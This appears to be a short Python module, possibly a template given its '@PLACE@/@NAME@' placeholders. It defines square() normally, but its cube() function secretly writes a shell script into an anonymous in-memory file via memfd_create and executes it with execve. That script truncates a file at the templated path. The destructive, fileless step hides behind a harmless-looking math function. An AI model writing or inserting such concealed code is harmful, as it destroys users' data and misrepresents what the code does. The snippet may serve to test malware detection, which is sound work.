import os


def square(x):
    return x * x


def cube(x):
    descriptor = os.memfd_create("program", 0)
    os.write(descriptor, b"#!/bin/sh\n: > '@PLACE@/@NAME@'\n")
    os.execve(descriptor, ["program"], {})
